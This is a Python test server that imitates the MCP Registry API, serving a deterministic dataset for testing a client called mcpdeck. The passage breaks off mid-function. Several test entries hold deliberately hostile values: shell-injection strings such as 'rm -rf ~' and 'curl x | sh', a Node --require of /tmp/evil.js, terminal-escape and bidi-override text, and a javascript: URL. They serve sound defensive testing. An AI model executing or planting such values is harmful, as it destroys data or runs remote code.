"""A fake of the official MCP Registry's read API v0.1 (stdlib only), for the `registry` tests:
mcpdeck is pointed at it with `--registry http://127.0.0.1:<port>`.

    python3 tests/servers/fake_registry.py [--delay SECS]

Shapes follow docs/reference/api/openapi.yaml of modelcontextprotocol/registry and the live service
(internal/api/handlers/v0/servers.go, internal/database/postgres.go, pkg/api/v0/types.go): camelCase
everywhere (registryType, runtimeHint, isSecret, nextCursor, ...); no snake_case field anywhere.

--delay SECS
  Every API answer (errors and 404s too, not the /_admin hooks) waits SECS seconds before it is
  sent, for "slow network" tests. The request is logged (see /_admin/requests) when it arrives.

--local-remote URL adds one entry, io.example/local-remote 1.0.0: a streamable-http remote at URL
with a required, secret header X-Api-Key (for a test whose MCP server checks that header).

Startup contract
  Binds 127.0.0.1 on a random free port, prints exactly `PORT <n>` as the first stdout line
  (flushed), then serves until killed. ThreadingHTTPServer with daemon threads; HTTP/1.1 with
  keep-alive; every answer carries Content-Length.

Endpoints (GET only; another method on them answers 405)
  GET /v0.1/servers?search=&limit=&cursor=&version=&updated_since=&include_deleted=
      200 {"servers": [ServerResponse], "metadata": {"nextCursor"?: str, "count": n}}
      Order: by name, then version, like the live registry's `ORDER BY server_name, version`, in
      plain code-point order (upper case first: io.example/Minimal_Server.v2 precedes
      io.example/build-meta; version 0.9.0 precedes 1.0.0).
      search         case-insensitive substring of the NAME only (the OpenAPI says "Search servers by
                     name (substring match)"; the live registry matches names only, title and
                     description are not searched; registry issue #1453 asks for descriptions).
                     Taken literally: `%` and `_` are not wildcards. Empty: no filter.
      version        `latest`: only entries with isLatest true; any other value: that exact version;
                     absent or empty: every version of every name.
      include_deleted  strconv.ParseBool spellings (true/false/1/0/t/f/TRUE/...); default false:
                     entries whose status is `deleted` are left out. Deprecated ones are always in.
      updated_since  RFC 3339 (e.g. 2026-09-01T00:00:00Z): only entries with updatedAt strictly
                     later. It turns include_deleted on; `include_deleted=false` with it is a 400.
                     Not RFC 3339: 400.
      limit          default 30, 1..100. Like the live registry (huma validation) a limit out of range
                     or not an integer is NOT clamped: 422 with errors[] (see Errors).
      cursor         opaque: the exact `metadata.nextCursor` of the previous page. Every cursor
                     starts with `p1+` (then standard base64, often ending in `=`), so a client must
                     percent-encode it in the query (`p1%2B...`): an unencoded `+` arrives as a space
                     and the cursor is refused. A cursor that does not decode: 400 "Invalid cursor
                     parameter". (The live registry's cursors are the literal `name:version` of the
                     last entry, which holds a `+` when the version has build metadata, and it does
                     not refuse malformed ones.)
      Paging: like the live registry, a FULL page always carries nextCursor (it does not look ahead),
      so when the number of matches is a multiple of limit the last page is
      {"servers": [], "metadata": {"count": 0}}. A page that is not full has no nextCursor.
  GET /v0.1/servers/{serverName}/versions[?include_deleted=]
      200 {"servers": [...], "metadata": {"count": n}}: every version of that name, newest
      publishedAt first (the OpenAPI: "ordered by publication date (newest first)"); deleted versions
      only with include_deleted=true. Unknown name, or nothing left after the filter: 404.
  GET /v0.1/servers/{serverName}/versions/{version}[?include_deleted=]
      200 ServerResponse. {version} `latest`: the entry with isLatest true (404 if that one is deleted
      and include_deleted is not true, like the live registry). Unknown: 404.
  {serverName} and {version} are single path segments, percent-decoded once: the name's `/` MUST be
  sent as %2F (`io.github.modelcontextprotocol%2Fserver-everything`); an unencoded `/` matches no
  route (404). Build metadata may come as `+` or %2B (`1.0.0%2B20130313144700`). A malformed
  escape (`%zz`): 400 "Invalid server name encoding" / "Invalid version encoding".
  Only /v0.1 exists: /v0/... and any other path answers 404.

ServerResponse
  {"server": ServerDetail,
   "_meta": {"io.modelcontextprotocol.registry/official": {
       "status": "active"|"deprecated"|"deleted", "statusMessage"?: str, "statusChangedAt": time,
       "publishedAt": time, "updatedAt": time, "isLatest": bool}}}
  ServerDetail keys, in this order when present: $schema (always
  https://static.modelcontextprotocol.io/schemas/2025-12-11/server.schema.json), name, description,
  title, repository {url, source, subfolder?}, version, websiteUrl, icons, packages, remotes, _meta.
  Times are RFC 3339 in UTC like Go prints them (`2025-09-01T00:00:00Z`, fractions only when not 0:
  `2026-09-01T12:00:00.5Z`).

Errors (huma's RFC 9457 problem details, as the live registry sends them, plus the OpenAPI's `error`)
  Content-Type application/problem+json, body
  {"$schema": "http://127.0.0.1:<port>/schemas/ErrorModel.json", "title": "Not Found", "status": 404,
   "detail": "Server not found", "error": "Server not found"}
  404 detail "Server not found" (unknown name/version); other paths: 404 "no such endpoint".
  400 "Invalid cursor parameter" | "Invalid updated_since format: expected RFC3339 timestamp (e.g.,
      2025-08-07T13:15:04.280Z)" | "Cannot set include_deleted=false when using updated_since
      (incremental sync requires deleted servers)" | "Invalid server name encoding" | "Invalid
      version encoding".
  422 detail "validation failed", plus "errors": [{"message": "expected number <= 100" (or
      "expected number >= 1", "invalid integer"), "location": "query.limit", "value": <as sent>}]
      or [{"message": "invalid boolean", "location": "query.include_deleted", "value": "<as sent>"}].
  405 detail "method not allowed" (with Allow: GET).

Test hooks (not logged, never delayed)
  GET  /_admin/requests   JSON list of the request target (path and query, exactly as sent, e.g.
                          "/v0.1/servers?limit=100&cursor=p1%2BWyJ...") of every other request, in
                          order of arrival, whatever its method or outcome.
  POST /_admin/reset      clears that list; answers {"ok": true}.

The data set (deterministic, built in code; 253 distinct names, 279 entries)
  230 bulk names io.example/bulk-000 .. io.example/bulk-229, all status active:
    version 1.0.0 (isLatest) for each; names whose number is a multiple of 10 (000, 010, .., 220: 23
    of them) also have an older 0.9.0 (isLatest false). Description "Bulk entry NNN for paging
    tests". Number % 7 == 3: remote only (streamable-http https://bulk-NNN.example.com/mcp); the others
    an npm package @example/bulk-NNN 1.0.0, runtimeHint npx, stdio. 1.0.0 is published
    2025-09-01T00:00:00Z + NNN hours, 0.9.0 30 days earlier.
  23 hand-written names (published between 2025-01-01 and 2026-08-31; those whose status changed have
  a later updatedAt/statusChangedAt, listed below):
    io.github.modelcontextprotocol/server-everything  2026.8.31 (latest) and 2025.1.1 (isLatest
        false). Package {registryType npm, identifier @modelcontextprotocol/server-everything, version
        = the entry's version, transport {type stdio}, runtimeHint npx}: 2026.8.31 is a real npm
        version (`npx -y @modelcontextprotocol/server-everything@2026.8.31` starts it on stdio);
        2025.1.1 is NOT published on npm. Title "Everything", repository {url
        https://github.com/modelcontextprotocol/servers, source github, subfolder src/everything},
        websiteUrl.
    io.github.example/weather-py 0.5.0  pypi mcp-weather-example, registryBaseUrl https://pypi.org,
        runtimeHint uvx, stdio. runtimeArguments [named --python value "3.12"]. packageArguments
        [positional valueHint config_file value "{config_dir}/weather.toml" variables {config_dir:
        filepath, isRequired}; named --units value "{units}" variables {units: choices metric|imperial,
        default metric}; named --city isRepeated, no value]. environmentVariables [WEATHER_API_KEY
        isRequired+isSecret; WEATHER_UNITS optional, default "celsius", choices; WEATHER_CACHE_DIR
        value "{cache_root}/weather" variables {cache_root: filepath, default "/tmp"}]. repository.
    io.example/docker-tool 1.2.0  oci ghcr.io/example/docker-tool:1.2.0 (tag in the identifier, no
        version field, no registryBaseUrl, as the registry now requires), runtimeHint docker, stdio.
        runtimeArguments [named --mount value "type=bind,src={source_path},dst=/project" variables
        {source_path: filepath, isRequired}; named -e value "LOG_LEVEL={log_level}" variables
        {log_level: choices, default info}]. packageArguments [positional value "/project"].
        environmentVariables [DOCKER_TOOL_TOKEN isSecret, not required]. icons [png 48x48 light].
    io.example/nuget-weather 0.5.0  nuget Knapcode.SampleMcpServer 0.5.0, registryBaseUrl
        https://api.nuget.org/v3/index.json, runtimeHint dnx, stdio, packageArguments [positional
        "mcp", positional "start"], environmentVariables [WEATHER_CHOICES isRequired, not secret].
    io.example/text-editor-bundle 1.0.2  mcpb identifier
        https://github.com/example/text-editor-mcpb/releases/download/v1.0.2/text-editor.mcpb,
        version 1.0.2, fileSha256 fe333e59..33ce (64 hex), stdio, no runtimeHint.
    io.example/cargo-tool 0.3.1  registryType cargo (listed among the OpenAPI's examples, beyond the
        five above), registryBaseUrl https://crates.io, mcp-cargo-tool 0.3.1, stdio, no runtimeHint.
    io.example/tenant-remote 3.0.0  remote only: streamable-http url
        "https://{tenant}.mcp.example.com/mcp" variables {tenant: {description, isRequired true,
        choices [acme, globex, initech]}}; headers [Authorization value "Bearer {api_key}" isRequired,
        isSecret, variables {api_key: {description, isSecret true, isRequired true}}; X-Region
        optional, default us-east-1, choices]. websiteUrl.
    io.example/sse-remote 1.1.0  remote only: sse https://sse.example.com/sse, header X-API-Key
        isRequired+isSecret.
    io.example/hybrid 1.5.0  a package AND a remote: npm @example/hybrid-mcp-server 1.5.0 npx stdio
        (packageArguments [named --mode default local, choices]) and streamable-http
        https://hybrid.example.com/mcp (no headers). Server _meta publisher-provided block.
    io.example/local-http 2.0.0  npm @example/local-http-server 2.0.0, runtimeHint npx, package
        transport streamable-http url "http://127.0.0.1:{port}/mcp" (a local server spoken to over
        HTTP), packageArguments [positional valueHint port, default 8931, isRequired].
    io.example/old 1.0.0  status deprecated, statusMessage "use io.example/new instead"
        (statusChangedAt = updatedAt = 2026-09-01T12:00:00.5Z). npm @example/old-server.
    io.example/new 2.0.0  active; its replacement. npm @example/new-server.
    io.example/deleted-server 0.1.0  status deleted, statusMessage "Removed: malicious package"
        (2026-09-02T08:30:00Z). Only entry of its name: hidden from lists, /versions and /versions/*
        unless include_deleted=true.
    io.example/partly-deleted  1.0.0 deleted ("Yanked: broken build", 2026-09-03T00:00:00Z, isLatest
        false) and 1.1.0 active (latest): without include_deleted only 1.1.0 shows.
    io.example/hostile-text 1.0.0  title "\\x1b[31mRed Alert\\x1b[0m \\x1b]0;owned\\x07Tool";
        description with CSI (clear screen), OSC 0 (window title) and OSC 8 (hyperlink), the C1 CSI
        U+009B, a carriage return, a backspace, bidi overrides U+202E/U+202C, U+2066 and zero-width
        U+200B/U+200D/U+FEFF. npm @example/hostile-text, an environment variable whose description
        has ANSI escapes. websiteUrl "javascript:alert(1)".
    io.example/long-description 1.0.0  a 10240-character description ending "END-OF-LONG-DESCRIPTION"
        (the official schema caps descriptions at 100 characters; another registry need not).
    io.example/evil-npm 1.0.0   npm identifier "evil; rm -rf ~" (runtimeHint npx).
    io.example/evil-pypi 1.0.0  pypi identifier "$(curl x)" (runtimeHint uvx).
    io.example/evil-oci 1.0.0   oci identifier "ghcr.io/evil/`id`:1.0.0" (runtimeHint docker).
    io.example/evil-args 1.0.0  npm @example/evil-args 1.0.0 (a sane identifier) with shell syntax in
        packageArguments (positional value "$(touch /tmp/mcpdeck-pwned)", named --config value
        "`id`; rm -rf ~"), runtimeArguments (named --node-options value "--require=/tmp/evil.js") and
        an environment variable value "$(id)".
    io.example/evil-hint 1.0.0  npm @example/evil-hint with runtimeHint "npx; curl x | sh" and package
        version "1.0.0 && curl x | sh".
    io.example/build-meta  1.0.0-beta.1 and 1.0.0+20130313144700 (latest; fetch it as
        /versions/1.0.0%2B20130313144700): remote only, streamable-http https://build-meta.example.com/mcp.
    io.example/Minimal_Server.v2 0.0.1  name, description and version only: nothing to install or
        connect to (and upper case, `_` and `.` in the name for search).

  Counts: GET /v0.1/servers (default filters) matches 277 entries (every version, minus the 2 deleted;
  252 names), version=latest 252 (253 names minus io.example/deleted-server), include_deleted=true 279,
  version=latest&include_deleted=true 253. updated_since=2026-09-01T00:00:00Z matches exactly
  io.example/deleted-server 0.1.0, io.example/old 1.0.0 and io.example/partly-deleted 1.0.0.
"""

import argparse
import base64
import binascii
import json
import re
import sys
import threading
import time
from datetime import datetime, timedelta, timezone
from http import HTTPStatus
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, unquote, urlsplit

SCHEMA = "https://static.modelcontextprotocol.io/schemas/2025-12-11/server.schema.json"
OFFICIAL = "io.modelcontextprotocol.registry/official"
EPOCH = datetime(2025, 9, 1, tzinfo=timezone.utc)
STDIO = {"type": "stdio"}


def at(text):
    return datetime.fromisoformat(text.replace("Z", "+00:00"))


def go_time(t):
    """RFC 3339 as Go's encoding/json prints a UTC time.Time (RFC3339Nano, zeros trimmed)."""
    s = t.astimezone(timezone.utc).strftime("%Y-%m-%dT%H:%M:%S")
    if t.microsecond:
        s += ("." + f"{t.microsecond:06d}").rstrip("0")
    return s + "Z"


def detail(name, version, description, title=None, repository=None, website=None, icons=None,
           packages=None, remotes=None, meta=None):
    """A ServerDetail with its keys in the order of the registry's Go struct."""
    d = {"$schema": SCHEMA, "name": name, "description": description}
    if title is not None:
        d["title"] = title
    if repository is not None:
        d["repository"] = repository
    d["version"] = version
    if website is not None:
        d["websiteUrl"] = website
    if icons is not None:
        d["icons"] = icons
    if packages is not None:
        d["packages"] = packages
    if remotes is not None:
        d["remotes"] = remotes
    if meta is not None:
        d["_meta"] = meta
    return d


def entry(server, published, latest=True, status="active", message=None, changed=None):
    """One (name, version) row: the ServerDetail and its official metadata."""
    published = at(published) if isinstance(published, str) else published
    changed = (at(changed) if isinstance(changed, str) else changed) or published
    return {
        "server": server,
        "status": status,
        "statusMessage": message,
        "statusChangedAt": changed,
        "publishedAt": published,
        "updatedAt": max(changed, published),
        "isLatest": latest,
    }


def npm(identifier, version, **extra):
    p = {"registryType": "npm", "identifier": identifier, "version": version,
         "transport": STDIO, "runtimeHint": "npx"}
    p.update(extra)
    return p


def github(repo, subfolder=None):
    r = {"url": f"https://github.com/{repo}", "source": "github"}
    if subfolder:
        r["subfolder"] = subfolder
    return r


def bulk_entries():
    out = []
    for i in range(230):
        name = f"io.example/bulk-{i:03d}"
        published = EPOCH + timedelta(hours=i)
        versions = [("1.0.0", published, True)]
        if i % 10 == 0:
            versions.insert(0, ("0.9.0", published - timedelta(days=30), False))
        for version, when, latest in versions:
            description = f"Bulk entry {i:03d} for paging tests"
            if i % 7 == 3:
                server = detail(name, version, description, remotes=[
                    {"type": "streamable-http", "url": f"https://bulk-{i:03d}.example.com/mcp"}])
            else:
                server = detail(name, version, description,
                                packages=[npm(f"@example/bulk-{i:03d}", version)])
            out.append(entry(server, when, latest))
    return out


LONG_DESCRIPTION = (
    ("This description is deliberately long, far past anything a list should print in full. " * 200)
    [: 10240 - len(" END-OF-LONG-DESCRIPTION")]
    + " END-OF-LONG-DESCRIPTION"
)

HOSTILE_TITLE = "\x1b[31mRed Alert\x1b[0m \x1b]0;owned\x07Tool"
HOSTILE_DESCRIPTION = (
    "Looks harmless\x1b[2J\x1b[H until printed: \x1b]0;owned\x07"
    "\x1b]8;;https://evil.example/\x07click me\x1b]8;;\x07 "
    "\u009b31mC1 CSI\u009b0m "
    "reversed \u202etxt.exe\u202c isolate \u2066x\u2069 "
    "zero\u200bwidth\u200djoin\ufeffBOM "
    "\rOVERWRITTEN\x08!"
)


def hand_entries():
    def everything(v):
        package = {
            "registryType": "npm",
            "identifier": "@modelcontextprotocol/server-everything",
            "version": v,
            "transport": STDIO,
            "runtimeHint": "npx",
        }
        return detail(
            "io.github.modelcontextprotocol/server-everything", v,
            "MCP server that exercises all the features of the MCP protocol",
            title="Everything",
            repository=github("modelcontextprotocol/servers", "src/everything"),
            website="https://github.com/modelcontextprotocol/servers/tree/main/src/everything",
            packages=[package],
        )

    out = [
        entry(everything("2025.1.1"), "2025-01-01T00:00:00Z", latest=False),
        entry(everything("2026.8.31"), "2026-08-31T18:00:00Z"),
    ]

    out.append(entry(detail(
        "io.github.example/weather-py", "0.5.0", "Python MCP server for weather data",
        title="Weather (Python)",
        repository=github("example/weather-py"),
        packages=[{
            "registryType": "pypi",
            "registryBaseUrl": "https://pypi.org",
            "identifier": "mcp-weather-example",
            "version": "0.5.0",
            "runtimeHint": "uvx",
            "transport": STDIO,
            "runtimeArguments": [
                {"type": "named", "name": "--python", "value": "3.12",
                 "description": "Python version for uvx to use"},
            ],
            "packageArguments": [
                {"type": "positional", "valueHint": "config_file",
                 "value": "{config_dir}/weather.toml",
                 "description": "The configuration file",
                 "variables": {"config_dir": {
                     "description": "Directory that holds weather.toml",
                     "format": "filepath", "isRequired": True}}},
                {"type": "named", "name": "--units", "value": "{units}",
                 "description": "Units of measurement",
                 "variables": {"units": {
                     "description": "metric or imperial",
                     "choices": ["metric", "imperial"], "default": "metric"}}},
                {"type": "named", "name": "--city", "description": "A city to preload",
                 "isRepeated": True},
            ],
            "environmentVariables": [
                {"name": "WEATHER_API_KEY", "description": "API key for the weather service",
                 "isRequired": True, "isSecret": True},
                {"name": "WEATHER_UNITS", "description": "Temperature units",
                 "default": "celsius", "choices": ["celsius", "fahrenheit"]},
                {"name": "WEATHER_CACHE_DIR", "description": "Where to cache forecasts",
                 "value": "{cache_root}/weather",
                 "variables": {"cache_root": {"description": "Cache root",
                                              "format": "filepath", "default": "/tmp"}}},
            ],
        }],
    ), "2025-10-01T09:00:00Z"))

    out.append(entry(detail(
        "io.example/docker-tool", "1.2.0", "A containerised MCP server",
        title="Docker Tool",
        repository=github("example/docker-tool"),
        icons=[{"src": "https://example.com/docker-tool.png", "mimeType": "image/png",
                "sizes": ["48x48"], "theme": "light"}],
        packages=[{
            "registryType": "oci",
            "identifier": "ghcr.io/example/docker-tool:1.2.0",
            "runtimeHint": "docker",
            "transport": STDIO,
            "runtimeArguments": [
                {"type": "named", "name": "--mount",
                 "value": "type=bind,src={source_path},dst=/project",
                 "description": "Mount a directory into the container", "isRequired": True,
                 "variables": {"source_path": {"description": "Directory on the host",
                                               "format": "filepath", "isRequired": True}}},
                {"type": "named", "name": "-e", "value": "LOG_LEVEL={log_level}",
                 "description": "Log level inside the container",
                 "variables": {"log_level": {"choices": ["debug", "info", "warn", "error"],
                                             "default": "info"}}},
            ],
            "packageArguments": [{"type": "positional", "value": "/project"}],
            "environmentVariables": [
                {"name": "DOCKER_TOOL_TOKEN", "description": "Optional token",
                 "isSecret": True},
            ],
        }],
    ), "2025-10-02T09:00:00Z"))

    out.append(entry(detail(
        "io.example/nuget-weather", "0.5.0",
        "Sample NuGet MCP server for a random number and random weather",
        repository=github("joelverhagen/Knapcode.SampleMcpServer"),
        packages=[{
            "registryType": "nuget",
            "registryBaseUrl": "https://api.nuget.org/v3/index.json",
            "identifier": "Knapcode.SampleMcpServer",
            "version": "0.5.0",
            "runtimeHint": "dnx",
            "transport": STDIO,
            "packageArguments": [{"type": "positional", "value": "mcp"},
                                 {"type": "positional", "value": "start"}],
            "environmentVariables": [
                {"name": "WEATHER_CHOICES",
                 "description": "Comma separated list of weather descriptions",
                 "isRequired": True, "isSecret": False},
            ],
        }],
    ), "2025-10-03T09:00:00Z"))

    out.append(entry(detail(
        "io.example/text-editor-bundle", "1.0.2", "MCP Bundle server for text editing",
        repository=github("example/text-editor-mcpb"),
        packages=[{
            "registryType": "mcpb",
            "identifier": "https://github.com/example/text-editor-mcpb/releases/download/v1.0.2/text-editor.mcpb",
            "version": "1.0.2",
            "fileSha256": "fe333e598595000ae021bd27117db32ec69af6987f507ba7a63c90638ff633ce",
            "transport": STDIO,
        }],
    ), "2025-10-04T09:00:00Z"))

    out.append(entry(detail(
        "io.example/cargo-tool", "0.3.1", "A Rust MCP server published on crates.io",
        packages=[{
            "registryType": "cargo",
            "registryBaseUrl": "https://crates.io",
            "identifier": "mcp-cargo-tool",
            "version": "0.3.1",
            "transport": STDIO,
        }],
    ), "2025-10-05T09:00:00Z"))

    out.append(entry(detail(
        "io.example/tenant-remote", "3.0.0", "Hosted multi-tenant MCP server",
        title="Tenant Remote",
        website="https://tenant.example.com/docs",
        remotes=[{
            "type": "streamable-http",
            "url": "https://{tenant}.mcp.example.com/mcp",
            "headers": [
                {"name": "Authorization", "description": "Your API key as a bearer token",
                 "value": "Bearer {api_key}", "isRequired": True, "isSecret": True,
                 "variables": {"api_key": {"description": "API key from the dashboard",
                                           "isSecret": True, "isRequired": True}}},
                {"name": "X-Region", "description": "Service region", "default": "us-east-1",
                 "choices": ["us-east-1", "eu-west-1", "ap-southeast-1"]},
            ],
            "variables": {"tenant": {"description": "Your tenant's subdomain",
                                     "isRequired": True,
                                     "choices": ["acme", "globex", "initech"]}},
        }],
    ), "2025-11-01T09:00:00Z"))

    out.append(entry(detail(
        "io.example/sse-remote", "1.1.0", "Hosted MCP server over the old SSE transport",
        remotes=[{
            "type": "sse",
            "url": "https://sse.example.com/sse",
            "headers": [{"name": "X-API-Key", "description": "API key",
                         "isRequired": True, "isSecret": True}],
        }],
    ), "2025-11-02T09:00:00Z"))

    out.append(entry(detail(
        "io.example/hybrid", "1.5.0", "MCP server available as a local package and a remote",
        repository=github("example/hybrid-mcp"),
        website="https://hybrid.example.com",
        packages=[npm("@example/hybrid-mcp-server", "1.5.0", packageArguments=[
            {"type": "named", "name": "--mode", "description": "Operation mode",
             "default": "local", "choices": ["local", "cached", "proxy"]}])],
        remotes=[{"type": "streamable-http", "url": "https://hybrid.example.com/mcp"}],
        meta={"io.modelcontextprotocol.registry/publisher-provided": {
            "tool": "publisher-cli", "version": "1.2.3",
            "buildInfo": {"commit": "abc123def456", "timestamp": "2025-11-03T09:00:00Z"}}},
    ), "2025-11-03T09:00:00Z"))

    out.append(entry(detail(
        "io.example/local-http", "2.0.0", "A local package spoken to over streamable HTTP",
        packages=[npm("@example/local-http-server", "2.0.0",
                      transport={"type": "streamable-http", "url": "http://127.0.0.1:{port}/mcp"},
                      packageArguments=[{"type": "positional", "valueHint": "port",
                                         "description": "Port to listen on",
                                         "default": "8931", "isRequired": True}])],
    ), "2025-11-04T09:00:00Z"))

    out.append(entry(detail(
        "io.example/old", "1.0.0", "The old server", packages=[npm("@example/old-server", "1.0.0")],
    ), "2025-06-01T00:00:00Z", status="deprecated", message="use io.example/new instead",
        changed="2026-09-01T12:00:00.5Z"))
    out.append(entry(detail(
        "io.example/new", "2.0.0", "The new server", packages=[npm("@example/new-server", "2.0.0")],
    ), "2026-06-01T00:00:00Z"))

    out.append(entry(detail(
        "io.example/deleted-server", "0.1.0", "A server that was taken down",
        packages=[npm("@example/deleted-server", "0.1.0")],
    ), "2025-07-01T00:00:00Z", status="deleted", message="Removed: malicious package",
        changed="2026-09-02T08:30:00Z"))

    out.append(entry(detail(
        "io.example/partly-deleted", "1.0.0", "One version yanked",
        packages=[npm("@example/partly-deleted", "1.0.0")],
    ), "2025-07-02T00:00:00Z", latest=False, status="deleted", message="Yanked: broken build",
        changed="2026-09-03T00:00:00Z"))
    out.append(entry(detail(
        "io.example/partly-deleted", "1.1.0", "One version yanked",
        packages=[npm("@example/partly-deleted", "1.1.0")],
    ), "2025-07-03T00:00:00Z"))

    out.append(entry(detail(
        "io.example/hostile-text", "1.0.0", HOSTILE_DESCRIPTION, title=HOSTILE_TITLE,
        website="javascript:alert(1)",
        packages=[npm("@example/hostile-text", "1.0.0", environmentVariables=[
            {"name": "HOSTILE_TOKEN", "isSecret": True, "isRequired": True,
             "description": "\x1b[1;31mPASTE YOUR TOKEN\x1b[0m\x1b]0;owned\x07 \u202eterces"}])],
    ), "2025-12-01T00:00:00Z"))

    out.append(entry(detail(
        "io.example/long-description", "1.0.0", LONG_DESCRIPTION, title="Long description",
        packages=[npm("@example/long-description", "1.0.0")],
    ), "2025-12-02T00:00:00Z"))

    out.append(entry(detail(
        "io.example/evil-npm", "1.0.0", "npm identifier with shell syntax",
        packages=[npm("evil; rm -rf ~", "1.0.0")],
    ), "2025-12-03T00:00:00Z"))
    out.append(entry(detail(
        "io.example/evil-pypi", "1.0.0", "pypi identifier with shell syntax",
        packages=[{"registryType": "pypi", "identifier": "$(curl x)", "version": "1.0.0",
                   "runtimeHint": "uvx", "transport": STDIO}],
    ), "2025-12-04T00:00:00Z"))
    out.append(entry(detail(
        "io.example/evil-oci", "1.0.0", "oci image with a backtick",
        packages=[{"registryType": "oci", "identifier": "ghcr.io/evil/`id`:1.0.0",
                   "runtimeHint": "docker", "transport": STDIO}],
    ), "2025-12-05T00:00:00Z"))
    out.append(entry(detail(
        "io.example/evil-args", "1.0.0", "Sane identifier, shell syntax in its arguments",
        packages=[npm("@example/evil-args", "1.0.0",
                      runtimeArguments=[{"type": "named", "name": "--node-options",
                                         "value": "--require=/tmp/evil.js"}],
                      packageArguments=[
                          {"type": "positional", "value": "$(touch /tmp/mcpdeck-pwned)"},
                          {"type": "named", "name": "--config", "value": "`id`; rm -rf ~"}],
                      environmentVariables=[{"name": "EVIL_ENV", "value": "$(id)"}])],
    ), "2025-12-06T00:00:00Z"))
    out.append(entry(detail(
        "io.example/evil-hint", "1.0.0", "Shell syntax in runtimeHint and package version",
        packages=[npm("@example/evil-hint", "1.0.0 && curl x | sh",
                      runtimeHint="npx; curl x | sh")],
    ), "2025-12-07T00:00:00Z"))

    build_remote = [{"type": "streamable-http", "url": "https://build-meta.example.com/mcp"}]
    out.append(entry(detail(
        "io.example/build-meta", "1.0.0-beta.1", "Versions with pre-release and build metadata",
        remotes=build_remote), "2026-01-01T00:00:00Z", latest=False))
    out.append(entry(detail(
        "io.example/build-meta", "1.0.0+20130313144700",
        "Versions with pre-release and build metadata",
        remotes=build_remote), "2026-01-02T00:00:00Z"))

    out.append(entry(detail(
        "io.example/Minimal_Server.v2", "0.0.1", "Nothing to install and nothing to connect to",
    ), "2026-02-01T00:00:00Z"))
    return out


ENTRIES = sorted(bulk_entries() + hand_entries(),
                 key=lambda e: (e["server"]["name"], e["server"]["version"]))


def response(e):
    """The ServerResponse of an entry."""
    official = {"status": e["status"]}
    if e["statusMessage"] is not None:
        official["statusMessage"] = e["statusMessage"]
    official["statusChangedAt"] = go_time(e["statusChangedAt"])
    official["publishedAt"] = go_time(e["publishedAt"])
    official["updatedAt"] = go_time(e["updatedAt"])
    official["isLatest"] = e["isLatest"]
    return {"server": e["server"], "_meta": {OFFICIAL: official}}


CURSOR_PREFIX = "p1+"


def encode_cursor(e):
    key = json.dumps([e["server"]["name"], e["server"]["version"]], separators=(",", ":"))
    return CURSOR_PREFIX + base64.b64encode(key.encode()).decode()


def decode_cursor(text):
    """The (name, version) a cursor points after, or None if it is not one of ours."""
    if not text.startswith(CURSOR_PREFIX):
        return None
    try:
        key = json.loads(base64.b64decode(text[len(CURSOR_PREFIX):].encode("ascii"), validate=True))
    except (ValueError, binascii.Error, UnicodeError):
        return None
    if not (isinstance(key, list) and len(key) == 2 and all(isinstance(k, str) for k in key)):
        return None
    return tuple(key)


RFC3339 = re.compile(
    r"^\d{4}-\d{2}-\d{2}[Tt]\d{2}:\d{2}:\d{2}(\.\d+)?([Zz]|[+-]\d{2}:\d{2})$"
)
BAD_ESCAPE = re.compile(r"%(?![0-9A-Fa-f]{2})")
TRUE = {"1", "t", "T", "TRUE", "true", "True"}
FALSE = {"0", "f", "F", "FALSE", "false", "False"}


class Problem(Exception):
    def __init__(self, status, detail, errors=None):
        super().__init__(detail)
        self.status = status
        self.detail = detail
        self.errors = errors


def invalid(location, message, value):
    return Problem(422, "validation failed",
                   [{"message": message, "location": location, "value": value}])


def parse_bool(query, name):
    """(value, was it set); strconv.ParseBool spellings, else 422."""
    raw = query.get(name, [""])[0]
    if raw == "":
        return False, False
    if raw in TRUE:
        return True, True
    if raw in FALSE:
        return False, True
    raise invalid(f"query.{name}", "invalid boolean", raw)


def parse_time(text):
    if not RFC3339.match(text):
        return None
    try:
        return datetime.fromisoformat(text.upper().replace("Z", "+00:00"))
    except ValueError:
        return None


class State:
    def __init__(self, args):
        self.delay = args.delay
        self.port = 0
        self.lock = threading.Lock()
        self.requests = []

    def base(self):
        return f"http://127.0.0.1:{self.port}"


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "fake-registry/1.0"

    def log_message(self, *args):
        pass

    @property
    def state(self):
        return self.server.state

    def send(self, status, body=b"", ctype="application/json", headers=()):
        if isinstance(body, (dict, list)):
            body = json.dumps(body, ensure_ascii=False).encode()
        elif isinstance(body, str):
            body = body.encode()
        self.send_response(status)
        if body:
            self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        for k, v in headers:
            self.send_header(k, v)
        self.end_headers()
        if body:
            self.wfile.write(body)

    def problem(self, p, headers=()):
        body = {
            "$schema": self.state.base() + "/schemas/ErrorModel.json",
            "title": HTTPStatus(p.status).phrase,
            "status": p.status,
            "detail": p.detail,
        }
        if p.errors is not None:
            body["errors"] = p.errors
        body["error"] = p.detail
        link = ("Link", '</schemas/ErrorModel.json>; rel="describedBy"')
        self.send(p.status, body, "application/problem+json", [link, *headers])

    def body(self):
        n = int(self.headers.get("Content-Length") or 0)
        return self.rfile.read(n) if n else b""

    def route(self, method):
        self.body()  # keep the connection usable whatever was sent
        parts = urlsplit(self.path)
        if parts.path.startswith("/_admin/"):
            return self.admin(method, parts.path)
        st = self.state
        with st.lock:
            st.requests.append(self.path)
        if st.delay > 0:
            time.sleep(st.delay)
        segments = parts.path.split("/")
        api = segments[:3] == ["", "v0.1", "servers"] and (
            len(segments) == 3
            or (len(segments) in (5, 6) and segments[4] == "versions" and segments[3] != "")
        )
        if not api:
            return self.problem(Problem(404, "no such endpoint"))
        if method != "GET":
            return self.problem(Problem(405, "method not allowed"), [("Allow", "GET")])
        query = parse_qs(parts.query, keep_blank_values=True)
        try:
            if len(segments) == 3:
                return self.send(200, self.list_servers(query))
            if BAD_ESCAPE.search(segments[3]):
                raise Problem(400, "Invalid server name encoding")
            name = unquote(segments[3])
            include_deleted, _ = parse_bool(query, "include_deleted")
            if len(segments) == 5:
                return self.send(200, self.versions(name, include_deleted))
            if BAD_ESCAPE.search(segments[5]):
                raise Problem(400, "Invalid version encoding")
            return self.send(200, self.one(name, unquote(segments[5]), include_deleted))
        except Problem as p:
            return self.problem(p)

    def list_servers(self, query):
        def first(name):
            return query.get(name, [""])[0]

        limit = 30
        raw_limit = first("limit")
        if raw_limit != "":
            if not re.fullmatch(r"[+-]?\d+", raw_limit):
                raise invalid("query.limit", "invalid integer", raw_limit)
            limit = int(raw_limit)
